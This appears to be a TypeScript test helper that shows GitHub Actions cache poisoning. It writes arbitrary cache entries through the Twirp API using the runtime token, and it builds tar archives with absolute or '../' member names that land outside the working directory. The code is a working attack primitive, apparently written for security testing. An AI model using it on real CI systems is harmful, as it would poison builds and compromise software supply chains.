/**
 * What an attacker with write access to the Actions cache can do: store any archive under a key and version
 * of their choice, speaking the Twirp API directly (no client-side checks).
 */
import { execFile } from 'node:child_process'
import { mkdtemp, mkdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { promisify } from 'node:util'
import { BlockBlobClient } from '@azure/storage-blob'
import type { CacheService } from './cache-service.js'

const run = promisify(execFile)
const SERVICE = '/twirp/github.actions.results.api.v1.CacheService/'

async function twirp(svc: CacheService, method: string, body: object): Promise<Record<string, unknown>> {
  const res = await fetch(svc.url + SERVICE + method, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${svc.env.ACTIONS_RUNTIME_TOKEN}` },
    body: JSON.stringify(body),
  })
  const json = (await res.json()) as Record<string, unknown>
  if (!res.ok || json.ok === false) throw new Error(`${method} failed: ${res.status} ${JSON.stringify(json)}`)
  return json
}

/** Creates, uploads and finalizes a cache entry holding `archive`. */
export async function plantArchive(
  svc: CacheService,
  key: string,
  version: string,
  archive: Buffer,
): Promise<void> {
  const created = await twirp(svc, 'CreateCacheEntry', { key, version })
  await new BlockBlobClient(String(created.signed_upload_url)).uploadData(archive)
  await twirp(svc, 'FinalizeCacheEntryUpload', { key, version, size_bytes: String(archive.length) })
}

/** The client compresses with zstd when a `zstd` binary answers, else gzip: archives follow the same rule. */
async function hasZstd(): Promise<boolean> {
  try {
    await run('zstd', ['--version'])
    return true
  } catch {
    return false
  }
}

/**
 * A zstd (or, without zstd, gzip) tar archive (like the client's) of the given files. Absolute names are stored as given (`-P`), so
 * an archive can name paths outside any working directory, as a poisoned one would.
 */
export async function makeArchive(files: Record<string, string>): Promise<Buffer> {
  const dir = await mkdtemp(path.join(tmpdir(), 'ig-plant-'))
  try {
    // Files are written under plain local names (f0, f1, …) and renamed in the archive with --transform,
    // so a member can carry any name, `../` and absolute ones included.
    const entries = Object.entries(files)
    await mkdir(path.join(dir, 'src'))
    const transforms: string[] = []
    for (const [i, [name, content]] of entries.entries()) {
      await writeFile(path.join(dir, 'src', `f${i}`), content)
      transforms.push('--transform', `s|^f${i}$|${name}|`)
    }
    const out = path.join(dir, 'archive.tzst')
    await run('tar', [
      (await hasZstd()) ? '--zstd' : '--gzip',
      '-cf',
      out,
      '-P',
      '-C',
      path.join(dir, 'src'),
      ...transforms,
      ...entries.map((_, i) => `f${i}`),
    ])
    return await readFile(out)
  } finally {
    await rm(dir, { recursive: true, force: true })
  }
}
